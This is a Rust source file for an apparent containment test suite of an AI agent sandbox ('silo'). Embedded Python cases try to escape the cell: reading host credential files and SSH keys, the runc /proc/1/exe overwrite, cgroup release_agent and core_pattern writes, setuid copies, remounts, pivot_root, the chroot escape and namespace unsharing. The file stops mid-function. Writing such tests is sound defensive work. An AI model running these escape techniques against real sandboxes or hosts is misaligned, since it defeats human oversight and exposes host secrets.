//! Containment: escapes from the cell, tried from Python inside it — the host's canary by
//! its path and through `/proc`, host files and devices, writes outside the tmpfs,
//! mounts, namespaces, ptrace, capabilities, dangerous syscalls (seccomp's list), other
//! architectures, terminals, the network, and the resource limits. A case says breach
//! only when the escape demonstrably worked (a host file's content read, a write landed
//! outside `/tmp`, a syscall that must fail succeeded); the host also watches the canary.

use crate::attack::{AgentOs, Attack, Category::Containment};

/// A containment case without an Agent OS mapping (an observation of the walls rather than
/// a forbidden action): the helpers below, then the case's Python.
macro_rules! observe {
    ($id:literal, $title:literal, $code:literal) => {
        Attack::new($id, Containment, $title, concat!(
            r#"
import errno
import struct

GOT = []
REFUSED = []
_INPUT = []


def task_input():
    if not _INPUT:
        _INPUT.append(task_info().get("input") or {})
    return _INPUT[0]


def canary():
    """The host path of the canary (the lab adds it to every single-run input)."""
    path = task_input().get("canary")
    if not path:
        _say("ERROR", "the task input carries no canary path: this case would prove nothing")
        sys.exit(1)
    return path


def _why(e):
    code = getattr(e, "errno", None)
    return errno_name(code) if isinstance(code, int) and code > 0 else str(e)


def _rec(what, worked, detail):
    (GOT if worked else REFUSED).append(f"{what}: {detail}"[:300])
    note(f"{'WORKED' if worked else 'refused'} {what}: {detail}")


def sys_try(what, nr, *args, worked=lambda r: r != -1, gate=False):
    """`gate`: also counts an errno other than EPERM/EACCES/ENOSYS as getting through
    (the call passed seccomp and the privilege check and failed only on its arguments)."""
    ret, e = syscall(nr, *args)
    past = not worked(ret) and gate and ret == -1 and e not in (errno.EPERM, errno.EACCES, errno.ENOSYS)
    w = worked(ret) or past
    if past:
        detail = f"{ret} {errno_name(e)}: got past the filter and the privilege check"
    else:
        detail = f"returned {ret}" if w else f"{ret} {errno_name(e)}"
    _rec(what, w, detail)
    return ret, e


def io_try(what, fn):
    try:
        r = fn()
    except OSError as e:
        _rec(what, False, _why(e))
        return None
    _rec(what, True, repr(r)[:200])
    return r


def read_file(path, n=4096):
    with open(path, "rb") as f:
        return f.read(n)


def write_file(path, data=b"silo redteam was here\n", mode="wb"):
    with open(path, mode) as f:
        f.write(data)
    return f"wrote {len(data)} bytes"


def listing(path):
    entries = os.listdir(path)
    if not entries:
        raise OSError(0, "empty")
    return entries


_KEEP = []


def cbuf(data):
    """A C buffer holding `data` (a str gets its NUL), kept alive for the whole run so
    `addr(cbuf(...))` can be passed straight to a syscall."""
    if isinstance(data, str):
        data = data.encode() + b"\0"
    b = ctypes.create_string_buffer(data, max(len(data), 1))
    _KEEP.append(b)
    return b


def addr(b):
    return ctypes.addressof(b)


def verdict(what):
    if GOT:
        breach(f"{what}: " + "; ".join(GOT))
    blocked(f"{what}: " + "; ".join(REFUSED))


AT_FDCWD = -100


def inet(what, family, kind, proto=0, then=None):
    """Creates a socket of another family than AF_UNIX: creating it at all gets through
    the filter (only AF_UNIX is allowed); `then(s)` is the rest of the attempt."""
    try:
        s = socket.socket(family, kind, proto)
    except OSError as e:
        _rec(what, False, f"socket: {_why(e)}")
        return
    try:
        s.settimeout(2)
        detail = then(s) if then else "created"
    except OSError as e:
        detail = f"socket created, then {_why(e)}"
    finally:
        s.close()
    _rec(what, True, detail)


def opened_w(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "opened for writing"


def create(path):
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
    try:
        os.unlink(path)
    except OSError:
        pass
    return "created (and removed again)"


def run_ok(argv):
    import subprocess
    r = subprocess.run(argv, capture_output=True, timeout=5)
    if r.returncode != 0:
        raise OSError(0, f"exit {r.returncode}: {r.stderr[:160]!r}")
    return f"ran, exit 0, printed {r.stdout[:80]!r}"
"#,
            $code
        ))
    };
}

/// A containment case: an outright forbidden action (Agent OS direct violation).
macro_rules! case {
    ($id:literal, $title:literal, $code:literal) => {
        observe!($id, $title, $code).agent_os(AgentOs::DirectViolation)
    };
}

/// The cases.
pub fn cases() -> Vec<Attack> {
    let mut v = files();
    v.extend(writes());
    v.extend(execution());
    v.extend(mounts_and_namespaces());
    v.extend(processes());
    v.extend(privileges());
    v.extend(syscalls());
    v.extend(network());
    v.extend(limits());
    v.extend(walls());
    v
}

/// Reading what only the host has.
fn files() -> Vec<Attack> {
    vec![
        case!("containment-read-canary-path", "read the host's canary file by its host path", r#"
path = canary()
io_try(f"read {path}", lambda: read_file(path))
io_try(f"stat {path}", lambda: os.stat(path).st_size)
io_try(f"list {os.path.dirname(path)}", lambda: listing(os.path.dirname(path)))
verdict("the canary by its path")
"#),
        case!("containment-write-canary-folder", "write a file into the host's world-writable canary folder", r#"
folder = os.path.dirname(canary())
io_try(f"create {folder}/planted.txt", lambda: write_file(folder + "/planted.txt"))
io_try(f"mkdir {folder}/planted", lambda: os.mkdir(folder + "/planted"))
io_try(f"overwrite {canary()}", lambda: write_file(canary()))
verdict("writing into the canary folder")
"#),
        case!("containment-canary-via-proc-1-root", "read the canary through /proc/1/root and /proc/1/cwd (the cell init's view)", r#"
path = canary()
for prefix in ["/proc/1/root", "/proc/1/cwd", "/proc/1/root/../../..", "/proc/1/cwd/../../.."]:
    io_try(f"read {prefix}{path}", lambda p=prefix + path: read_file(p))
io_try("list /proc/1/root", lambda: listing("/proc/1/root"))
verdict("the canary through the init's root")
"#),
        case!("containment-canary-via-proc-self-root", "read the canary through /proc/self/root and /proc/thread-self/root", r#"
path = canary()
for prefix in ["/proc/self/root", "/proc/thread-self/root", "/proc/self/cwd/../../..", f"/proc/{os.getpid()}/root/.."]:
    io_try(f"read {prefix}{path}", lambda p=prefix + path: read_file(p))
verdict("the canary through our own root")
"#),
        case!("containment-canary-via-proc-walk", "read the canary through every visible process's root, cwd, environment and open directories", r#"
path = canary()
pids = [p for p in os.listdir("/proc") if p.isdigit()]
note(f"visible pids: {pids}")
for pid in pids:
    for link in ["root", "cwd"]:
        io_try(f"read /proc/{pid}/{link}{path}", lambda p=f"/proc/{pid}/{link}{path}": read_file(p))
    if int(pid) != os.getpid():
        io_try(f"read /proc/{pid}/environ", lambda p=f"/proc/{pid}/environ": read_file(p, 256))
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        _rec(f"list /proc/{pid}/fd", False, _why(e))
        continue
    for fd in fds:
        io_try(f"read /proc/{pid}/fd/{fd}/../..{path}", lambda p=f"/proc/{pid}/fd/{fd}/../..{path}": read_file(p))
verdict("the canary through /proc")
"#),
        case!("containment-dotdot-out-of-binds", "climb out of the /agent, /opt/silo/sdk and socket binds with .. towards the canary", r#"
path = canary()
lab = os.path.dirname(os.path.dirname(path))
tail = path[len(lab):].lstrip("/")
note(f"host lab folder {lab}, canary relative {tail}")
for base, up in [("/agent", 2), ("/opt/silo/sdk", 3), ("/run/silo", 3), ("/tmp", 3)]:
    rel = "../" * up + tail
    io_try(f"read {base}/{rel}", lambda p=f"{base}/{rel}": read_file(p))
    try:
        fd = os.open(base, os.O_PATH | os.O_DIRECTORY)
    except OSError as e:
        _rec(f"open {base}", False, _why(e))
        continue
    try:
        io_try(f"openat({base}, {rel})", lambda fd=fd, rel=rel: os.read(os.open(rel, os.O_RDONLY, dir_fd=fd), 4096))
    finally:
        os.close(fd)
verdict("climbing out of the binds")
"#),
        case!("containment-read-lab-data", "read the host lab's policy, keys and audit log next to the canary", r#"
lab = os.path.dirname(os.path.dirname(canary()))
for p in [lab + "/policy.yaml", lab + "/data", lab + "/data/keys", lab + "/run", lab + "/agents"]:
    if p.endswith(".yaml"):
        io_try(f"read {p}", lambda p=p: read_file(p))
    else:
        io_try(f"list {p}", lambda p=p: listing(p))
verdict("the host lab's files")
"#),
        case!("containment-read-etc-shadow", "read the host's password hashes and sudoers", r#"
for p in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key", "/etc/machine-id"]:
    io_try(f"read {p}", lambda p=p: read_file(p))
verdict("host secrets in /etc (the cell's /etc is synthetic)")
"#),
        case!("containment-list-root-and-home", "list and read the host's /root, /home and other top-level folders", r#"
for d in ["/root", "/home", "/var", "/srv", "/mnt", "/media", "/boot", "/opt"]:
    entries = io_try(f"list {d}", lambda d=d: listing(d))
for p in ["/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.bash_history", "/root/.cargo/credentials.toml"]:
    io_try(f"read {p}", lambda p=p: read_file(p))
# /opt holds only silo's own SDK bind: that one is expected.
GOT[:] = [g for g in GOT if not g.startswith("list /opt: ['silo']")]
verdict("host home folders")
"#),
        case!("containment-read-init-environ-mem", "read the cell init's environment, memory, maps and auxv (it carries the host supervisor's environment)", r#"
for p in ["/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/1/auxv", "/proc/1/stack", "/proc/1/syscall", "/proc/1/pagemap"]:
    io_try(f"read {p}", lambda p=p: read_file(p, 256))
verdict("the init's private state")
"#),
        case!("containment-read-proc-kcore", "read kernel memory through /proc/kcore and friends", r#"
for p in ["/proc/kcore", "/proc/kmsg", "/proc/vmcore", "/proc/kpagecount", "/proc/kpageflags", "/proc/sysrq-trigger"]:
    io_try(f"read {p}", lambda p=p: read_file(p, 64))
verdict("kernel memory through /proc")
"#),
        case!("containment-read-dev-mem", "open the host's memory and disk devices", r#"
for p in ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/kmsg", "/dev/tty", "/dev/console", "/dev/shm"]:
    io_try(f"open {p}", lambda p=p: read_file(p, 64))
verdict("host devices")
"#),
        case!("containment-read-sys-firmware", "read /sys: firmware tables, network devices, kernel security", r#"
for p in ["/sys", "/sys/firmware", "/sys/class/net", "/sys/kernel/security", "/sys/fs/cgroup"]:
    io_try(f"list {p}", lambda p=p: listing(p))
for p in ["/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug/tracing/trace", "/sys/class/dmi/id/product_uuid"]:
    io_try(f"read {p}", lambda p=p: read_file(p, 64))
verdict("the host's /sys")
"#),
        case!("containment-read-kernel-log", "read the host's kernel log with syslog(2) and /dev/kmsg", r#"
buf = ctypes.create_string_buffer(4096)
sys_try("syslog(READ_ALL)", 103, 3, addr(buf), 4096, worked=lambda r: r > 0)
sys_try("syslog(SIZE_BUFFER)", 103, 10, 0, 0, worked=lambda r: r > 0)
io_try("read /dev/kmsg", lambda: read_file("/dev/kmsg", 256))
verdict("the kernel log")
"#),
        case!("containment-overwrite-init-exe", "open the host's silo binary through /proc/1/exe for writing (runc CVE-2019-5736)", r#"
io_try("open /proc/1/exe for writing", lambda: os.close(os.open("/proc/1/exe", os.O_WRONLY)) or "opened")
io_try("open /proc/1/exe O_PATH", lambda: os.close(os.open("/proc/1/exe", os.O_PATH)) or "opened")
io_try("open /proc/self/exe for writing", lambda: os.close(os.open("/proc/self/exe", os.O_WRONLY)) or "opened")
verdict("overwriting the runtime binaries")
"#),
        case!("containment-init-fds", "open the cell init's file descriptors and mapped files through /proc/1", r#"
io_try("list /proc/1/fd", lambda: listing("/proc/1/fd"))
io_try("list /proc/1/map_files", lambda: listing("/proc/1/map_files"))
for fd in range(0, 12):
    io_try(f"open /proc/1/fd/{fd}", lambda fd=fd: os.close(os.open(f"/proc/1/fd/{fd}", os.O_RDONLY)) or "opened")
verdict("the init's descriptors")
"#),
    ]
}

/// Writing outside the tmpfs.
fn writes() -> Vec<Attack> {
    vec![
        case!(
            "containment-write-agent",
            "modify the read-only agent folder /agent",
            r#"
for p in ["/agent/main.py", "/agent/agent.yaml"]:
    io_try(f"open {p} for writing", lambda p=p: opened_w(p))
io_try("create /agent/planted.txt", lambda: create("/agent/planted.txt"))
io_try("mkdir /agent/planted", lambda: os.mkdir("/agent/planted"))
io_try("rename /agent/agent.yaml", lambda: os.rename("/agent/agent.yaml", "/agent/agent2.yaml"))
io_try("chmod /agent/main.py 0777", lambda: os.chmod("/agent/main.py", 0o777))
io_try("utime /agent/main.py", lambda: os.utime("/agent/main.py", (0, 0)))
verdict("writing to /agent")
"#
        ),
        case!(
            "containment-write-usr",
            "plant a file or patch the Python standard library under the read-only /usr",
            r#"
for p in [os.__file__, os.path.realpath(sys.executable)]:
    io_try(f"open {p} for writing", lambda p=p: opened_w(p))
for p in ["/usr/bin/silo-planted", "/usr/lib/silo-planted", os.path.dirname(os.__file__) + "/silo_planted.py"]:
    io_try(f"create {p}", lambda p=p: create(p))
io_try("mkdir /usr/local/silo-planted", lambda: os.mkdir("/usr/local/silo-planted"))
io_try("symlink /usr/bin/silo-link", lambda: os.symlink("/tmp", "/usr/bin/silo-link"))
verdict("writing to /usr")
"#
        ),
        case!(
            "containment-write-etc",
            "edit /etc (passwd, hosts) and plant /etc/ld.so.preload",
            r#"
for p in ["/etc/passwd", "/etc/hosts", "/etc/ld.so.cache", "/etc/nsswitch.conf"]:
    io_try(f"open {p} for writing", lambda p=p: opened_w(p))
for p in ["/etc/ld.so.preload", "/etc/silo-planted"]:
    io_try(f"create {p}", lambda p=p: create(p))
io_try("rename /etc/hosts", lambda: os.rename("/etc/hosts", "/etc/hosts.old"))
verdict("writing to /etc")
"#
        ),
        case!(
            "containment-write-root",
            "create files and folders at the cell's root and in /bin, /lib",
            r#"
for p in ["/planted", "/bin/silo-planted", "/lib/silo-planted", "/run/planted"]:
    io_try(f"create {p}", lambda p=p: create(p))
io_try("mkdir /planted-dir", lambda: os.mkdir("/planted-dir"))
io_try("symlink /planted-link", lambda: os.symlink("/tmp", "/planted-link"))
io_try("rename /tmp", lambda: os.rename("/tmp", "/tmp2"))
verdict("writing to /")
"#
        ),
        case!(
            "containment-write-sdk",
            "patch the read-only SDK at /opt/silo/sdk",
            r#"
io_try("open /opt/silo/sdk/silo/__init__.py for writing", lambda: opened_w("/opt/silo/sdk/silo/__init__.py"))
for p in ["/opt/silo/sdk/sitecustomize.py", "/opt/silo/sdk/silo/planted.py", "/opt/silo/sdk/usercustomize.py"]:
    io_try(f"create {p}", lambda p=p: create(p))
io_try("mkdir /opt/silo/sdk/silo/__pycache__", lambda: os.mkdir("/opt/silo/sdk/silo/__pycache__"))
io_try("rename the silo package", lambda: os.rename("/opt/silo/sdk/silo", "/opt/silo/sdk/silo2"))
verdict("writing to /opt/silo/sdk")
"#
        ),
        case!(
            "containment-write-run-silo",
            "replace or remove the membrane socket in /run/silo",
            r#"
io_try("create /run/silo/planted", lambda: create("/run/silo/planted"))
io_try("unlink /run/silo/membrane.sock", lambda: os.unlink("/run/silo/membrane.sock"))
io_try("rename /run/silo/membrane.sock", lambda: os.rename("/run/silo/membrane.sock", "/run/silo/old.sock"))
def bind_fake():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind("/run/silo/fake.sock")
    finally:
        s.close()
    return "bound /run/silo/fake.sock"
io_try("bind a socket at /run/silo/fake.sock", bind_fake)
verdict("writing to /run/silo")
"#
        ),
        case!(
            "containment-write-dev",
            "create device-tree entries in the read-only /dev",
            r#"
for p in ["/dev/planted", "/dev/shm/planted", "/dev/mqueue/planted"]:
    io_try(f"create {p}", lambda p=p: create(p))
io_try("mkdir /dev/shm", lambda: os.mkdir("/dev/shm"))
io_try("symlink /dev/tty", lambda: os.symlink("/proc/self/fd/0", "/dev/tty"))
verdict("writing to /dev")
"#
        ),
        case!(
            "containment-write-proc-sys",
            "rewrite kernel settings in /proc/sys (core_pattern, modprobe, hostname)",
            r#"
def rewrite(p):
    with open(p, "r+b") as f:
        cur = f.read()
        f.seek(0)
        f.write(cur)
    return f"rewrote {cur[:40]!r}"
for p in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname",
          "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/suid_dumpable",
          "/proc/sys/kernel/unprivileged_bpf_disabled", "/proc/sys/user/max_user_namespaces"]:
    io_try(f"write {p}", lambda p=p: rewrite(p))
io_try("write /proc/sysrq-trigger", lambda: write_file("/proc/sysrq-trigger", b"h"))
verdict("writing kernel settings")
"#
        ),
        case!(
            "containment-write-cgroup",
            "raise the cell's own cgroup limits, move out of it, or set a release_agent",
            r#"
note("own cgroups: " + open("/proc/self/cgroup").read().replace(chr(10), " "))
for p in ["/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max",
          "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/memory/notify_on_release",
          "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/pids/pids.max"]:
    io_try(f"write {p}", lambda p=p: write_file(p, b"max"))
os.makedirs("/tmp/cg", exist_ok=True)
sys_try("mount cgroup2 on /tmp/cg", 165, addr(n := cbuf("none")), addr(d := cbuf("/tmp/cg")), addr(t := cbuf("cgroup2")), 0, 0)
sys_try("mount cgroup v1 memory on /tmp/cg", 165, addr(n), addr(d), addr(cbuf("cgroup")), 0, addr(o := cbuf("memory")))
io_try("write /tmp/cg/release_agent", lambda: write_file("/tmp/cg/release_agent", b"/tmp/x"))
GOT[:] = [g for g in GOT if not g.startswith("write /tmp/cg/release_agent")] + (
    [] if not os.path.exists("/tmp/cg/cgroup.procs") and not os.path.exists("/tmp/cg/tasks") else ["a cgroup filesystem is mounted at /tmp/cg"])
verdict("the cgroup")
"#
        ),
        case!(
            "containment-write-oom-score-adj",
            "exempt the agent from the OOM killer (oom_score_adj -1000)",
            r#"
before = int(open("/proc/self/oom_score_adj").read())
io_try("write -1000 to /proc/self/oom_score_adj", lambda: write_file("/proc/self/oom_score_adj", b"-1000"))
io_try("write -17 to /proc/self/oom_adj", lambda: write_file("/proc/self/oom_adj", b"-17"))
after = int(open("/proc/self/oom_score_adj").read())
note(f"oom_score_adj before {before}, after {after}")
GOT[:] = [] if after >= before else [f"oom_score_adj lowered from {before} to {after}"]
verdict("lowering oom_score_adj")
"#
        ),
        case!(
            "containment-write-id-maps",
            "rewrite the user namespace's uid and gid maps to map host root",
            r#"
for p, data in [("/proc/self/uid_map", b"0 0 1"), ("/proc/self/gid_map", b"0 0 1"), ("/proc/self/setgroups", b"allow"),
                ("/proc/1/uid_map", b"0 0 1")]:
    io_try(f"write {p}", lambda p=p, data=data: write_file(p, data))
note("uid_map now: " + open("/proc/self/uid_map").read().strip())
verdict("rewriting id maps")
"#
        ),
        case!(
            "containment-link-out-of-tmp",
            "write outside the tmpfs through symlinks and hard links made in /tmp",
            r#"
os.symlink("/agent", "/tmp/agent-link")
io_try("create /tmp/agent-link/planted.txt", lambda: create("/tmp/agent-link/planted.txt"))
os.symlink("/etc/passwd", "/tmp/passwd-link")
io_try("open /tmp/passwd-link for writing", lambda: opened_w("/tmp/passwd-link"))
for src in ["/agent/main.py", "/etc/passwd", "/usr/bin/env"]:
    io_try(f"hard link {src} into /tmp", lambda src=src: os.link(src, "/tmp/hard-" + os.path.basename(src)) or "linked")
open("/tmp/out.txt", "w").write("x")
io_try("rename /tmp/out.txt to /agent/out.txt", lambda: os.rename("/tmp/out.txt", "/agent/out.txt"))
verdict("links out of /tmp")
"#
        ),
    ]
}

/// Running code the agent wrote, and privileges through files.
fn execution() -> Vec<Attack> {
    vec![
        case!(
            "containment-exec-tmp-file",
            "execute a binary and a script written to the noexec /tmp, directly and through ld.so",
            r##"
import shutil
shutil.copy(shutil.which("true") or "/usr/bin/true", "/tmp/true")
os.chmod("/tmp/true", 0o755)
with open("/tmp/run.sh", "w") as f:
    f.write("#!/bin/sh\nexit 0\n")
os.chmod("/tmp/run.sh", 0o755)
io_try("exec /tmp/true", lambda: run_ok(["/tmp/true"]))
io_try("exec /tmp/run.sh", lambda: run_ok(["/tmp/run.sh"]))
for ld in ["/lib64/ld-linux-x86-64.so.2", "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"]:
    if os.path.exists(ld):
        io_try(f"{ld} /tmp/true", lambda ld=ld: run_ok([ld, "/tmp/true"]))
        break
verdict("executing from /tmp")
"##
        ),
        case!(
            "containment-mmap-exec-tmp-file",
            "map a file from the noexec /tmp as executable (mmap and mprotect)",
            r#"
import mmap
with open("/tmp/code.bin", "wb") as f:
    f.write(b"\xc3" * 4096)
fd = os.open("/tmp/code.bin", os.O_RDONLY)
io_try("mmap /tmp/code.bin PROT_EXEC", lambda: mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC) and "mapped executable")
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
p = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
if p in (None, ctypes.c_void_p(-1).value):
    _rec("mmap /tmp/code.bin PROT_READ", False, errno_name(ctypes.get_errno()))
else:
    sys_try("mprotect the mapping to PROT_READ|PROT_EXEC", 10, p, 4096, mmap.PROT_READ | mmap.PROT_EXEC)
verdict("executable mappings of /tmp files")
"#
        ),
        case!(
            "containment-memfd-exec-keeps-walls",
            "execute a copy of python from a memfd and check the walls still hold in it",
            r#"
import subprocess
fd = os.memfd_create("py", 0)
with open(os.path.realpath(sys.executable), "rb") as f:
    os.write(fd, f.read())
probe = "; ".join([
    "import os, sys",
    "st = dict(l.split(':', 1) for l in open('/proc/self/status') if ':' in l)",
    "bad = [k for k in ('CapEff', 'CapPrm', 'CapBnd', 'CapAmb', 'CapInh') if int(st[k], 16)]",
    "bad += [] if st['NoNewPrivs'].strip() == '1' else ['NoNewPrivs']",
    "bad += [] if st['Seccomp'].strip() == '2' else ['Seccomp']",
    "bad += ['uid %d' % os.geteuid()] if os.geteuid() == 0 else []",
    "p = sys.argv[1]",
    "bad += ['canary readable'] if os.path.exists(p) else []",
    "print('WALLS-DOWN ' + ','.join(bad) if bad else 'walls hold')",
])
try:
    r = subprocess.run([f"/proc/self/fd/{fd}", "-c", probe, canary()], pass_fds=(fd,), capture_output=True, timeout=10)
except OSError as e:
    blocked(f"executing a memfd: {_why(e)}")
out = r.stdout.decode(errors="replace").strip()
note(f"memfd python: exit {r.returncode} {out!r} {r.stderr[:200]!r}")
if "WALLS-DOWN" in out:
    breach(f"a program executed from a memfd runs without the walls: {out}")
if r.returncode == 0 and out == "walls hold":
    blocked("a memfd program ran but under the same seccomp filter, no_new_privs, no capabilities and the same root")
blocked(f"executing a memfd failed: exit {r.returncode}")
"#
        ),
        case!(
            "containment-setuid-python-copy",
            "make a setuid copy of python in /tmp and run it",
            r#"
import shutil
shutil.copy(os.path.realpath(sys.executable), "/tmp/py")
io_try("chmod u+s,g+s /tmp/py", lambda: os.chmod("/tmp/py", 0o6755))
fd = os.open("/tmp/py", os.O_RDONLY)
io_try("fchmod u+s /tmp/py", lambda: os.fchmod(fd, 0o4755))
sys_try("fchmodat u+s /tmp/py", 268, AT_FDCWD, addr(cbuf("/tmp/py")), 0o4755)
mode = os.stat("/tmp/py").st_mode
note(f"/tmp/py mode {oct(mode)}")
if mode & 0o6000:
    GOT.append(f"/tmp/py has mode {oct(mode)}")
io_try("run /tmp/py", lambda: run_ok(["/tmp/py", "-c", "import os; print(os.getresuid())"]))
verdict("a setuid python")
"#
        ),
        case!(
            "containment-mknod-devices",
            "create a character device (/dev/mem) and a block device (the host disk) in /tmp",
            r#"
os.mkdir("/tmp/dev")
S_IFCHR, S_IFBLK = 0o020000, 0o060000
sys_try("mknodat /tmp/dev/mem c 1 1", 259, AT_FDCWD, addr(cbuf("/tmp/dev/mem")), S_IFCHR | 0o666, os.makedev(1, 1))
sys_try("mknod /tmp/dev/vda b 254 0", 133, addr(cbuf("/tmp/dev/vda")), S_IFBLK | 0o666, os.makedev(254, 0))
io_try("os.mknod /tmp/dev/null c 1 3", lambda: os.mknod("/tmp/dev/null", S_IFCHR | 0o666, os.makedev(1, 3)))
verdict("device nodes")
"#
        ),
    ]
}

/// Mounts, roots and namespaces.
fn mounts_and_namespaces() -> Vec<Attack> {
    vec![
        case!("containment-mount-tmpfs", "mount a fresh tmpfs (an exec-able, unlimited scratch space)", r#"
os.mkdir("/tmp/m")
sys_try("mount tmpfs on /tmp/m", 165, addr(a := cbuf("none")), addr(b := cbuf("/tmp/m")), addr(c := cbuf("tmpfs")), 0, 0)
sys_try("mount tmpfs over /agent", 165, addr(a), addr(d := cbuf("/agent")), addr(c), 0, 0)
verdict("mounting a tmpfs")
"#),
        case!("containment-mount-bind", "bind-mount the root elsewhere and remount /agent and / read-write", r#"
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
os.mkdir("/tmp/b")
sys_try("bind / on /tmp/b", 165, addr(a := cbuf("/")), addr(b := cbuf("/tmp/b")), 0, MS_BIND | MS_REC, 0)
sys_try("remount /agent read-write", 165, 0, addr(c := cbuf("/agent")), 0, MS_REMOUNT | MS_BIND, 0)
sys_try("remount / read-write", 165, 0, addr(a), 0, MS_REMOUNT, 0)
sys_try("remount /proc/sys read-write", 165, 0, addr(d := cbuf("/proc/sys")), 0, MS_REMOUNT | MS_BIND, 0)
verdict("bind mounts and remounts")
"#),
        case!("containment-mount-proc-sysfs", "mount a new proc, sysfs, devpts and cgroup filesystem", r#"
for fs in ["proc", "sysfs", "devpts", "cgroup2", "debugfs", "securityfs"]:
    os.mkdir(f"/tmp/{fs}")
    sys_try(f"mount {fs} on /tmp/{fs}", 165, addr(a := cbuf(fs)), addr(b := cbuf(f"/tmp/{fs}")), addr(a), 0, 0)
verdict("mounting kernel filesystems")
"#),
        case!("containment-mount-new-api", "the new mount API: fsopen, fspick, open_tree, move_mount, mount_setattr to clear read-only", r#"
OPEN_TREE_CLONE, AT_RECURSIVE = 1, 0x8000
sys_try("fsopen(tmpfs)", 430, addr(a := cbuf("tmpfs")), 0)
sys_try("fspick(/agent)", 433, AT_FDCWD, addr(b := cbuf("/agent")), 0)
sys_try("open_tree(/, CLONE|RECURSIVE)", 428, AT_FDCWD, addr(c := cbuf("/")), OPEN_TREE_CLONE | AT_RECURSIVE)
attr = cbuf(struct.pack("QQQQ", 0, 1, 0, 0))  # attr_set 0, attr_clr MOUNT_ATTR_RDONLY
sys_try("mount_setattr(/agent, clear RDONLY)", 442, AT_FDCWD, addr(b), 0, addr(attr), 32)
os.mkdir("/tmp/mv")
sys_try("move_mount(/agent -> /tmp/mv)", 429, AT_FDCWD, addr(b), AT_FDCWD, addr(d := cbuf("/tmp/mv")), 0)
verdict("the new mount API")
"#),
        case!("containment-umount-membrane", "unmount the membrane socket, /proc/sys's read-only cover, /tmp and /agent", r#"
MNT_DETACH = 2
for target in ["/run/silo/membrane.sock", "/proc/sys", "/tmp", "/agent", "/proc", "/opt/silo/sdk", "/"]:
    sys_try(f"umount2({target}, MNT_DETACH)", 166, addr(cbuf(target)), MNT_DETACH)
if not still_served():
    note("the membrane stopped answering after the umount attempts")
verdict("unmounting")
"#),
        case!("containment-pivot-root", "pivot_root into /tmp to shed the cell's root", r#"
os.mkdir("/tmp/old")
sys_try("pivot_root(/tmp, /tmp/old)", 155, addr(a := cbuf("/tmp")), addr(b := cbuf("/tmp/old")))
sys_try("pivot_root(., .)", 155, addr(c := cbuf(".")), addr(c))
verdict("pivot_root")
"#),
        case!("containment-chroot-fchdir-escape", "the classic chroot escape: chroot into /tmp, fchdir to a saved fd, climb .. and chroot there", r#"
os.mkdir("/tmp/jail")
saved = os.open("/agent", os.O_PATH | os.O_DIRECTORY)
ret, e = sys_try("chroot(/tmp/jail)", 161, addr(cbuf("/tmp/jail")))
if ret == 0:
    os.fchdir(saved)
    for _ in range(32):
        os.chdir("..")
    sys_try("chroot(.) after climbing", 161, addr(cbuf(".")))
    io_try("read the canary after the escape", lambda: read_file(canary()))
verdict("chroot")
"#),
        case!("containment-unshare-user-namespace", "unshare a new user namespace (full capabilities inside it)", r#"
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
sys_try("unshare(CLONE_NEWUSER)", 272, CLONE_NEWUSER)
sys_try("unshare(CLONE_NEWUSER|CLONE_NEWNS)", 272, CLONE_NEWUSER | CLONE_NEWNS)
note("CapEff now " + [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].strip())
verdict("a new user namespace")
"#),
        case!("containment-unshare-other-namespaces", "unshare mount, net, pid, ipc, uts, cgroup and time namespaces", r#"
for name, flag in [("NEWNS", 0x00020000), ("NEWNET", 0x40000000), ("NEWPID", 0x20000000), ("NEWIPC", 0x08000000),
                   ("NEWUTS", 0x04000000), ("NEWCGROUP", 0x02000000), ("NEWTIME", 0x00000080)]:
    sys_try(f"unshare(CLONE_{name})", 272, flag)
verdict("new namespaces")
"#),
        case!("containment-setns-init", "join the cell init's namespaces with setns through /proc/1/ns and a pidfd", r#"
for ns in ["mnt", "user", "net", "pid", "ipc", "uts", "cgroup", "time"]:
    try:
        fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
        where = "/proc/1"
    except OSError as e:
        _rec(f"open /proc/1/ns/{ns}", False, _why(e))
        fd = os.open(f"/proc/self/ns/{ns}", os.O_RDONLY)
        where = "/proc/self"
    sys_try(f"setns({where}/ns/{ns})", 308, fd, 0)
    os.close(fd)
pidfd, e = syscall(434, 1, 0)
note(f"pidfd_open(1) -> {pidfd} {errno_name(e) if pidfd < 0 else ''}")
if pidfd >= 0:
    sys_try("setns(pidfd of init, all namespaces)", 308, pidfd, 0x7E020080)
verdict("setns")
"#),
        case!("containment-clone-with-namespaces", "clone and clone3 with new user, mount and pid namespaces", r#"
SIGCHLD = 17
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID = 0x10000000, 0x00020000, 0x20000000
def child_or_parent(what, ret, e, counts=True):
    if ret == 0:
        os._exit(0)
    if ret > 0:
        os.waitpid(ret, 0)
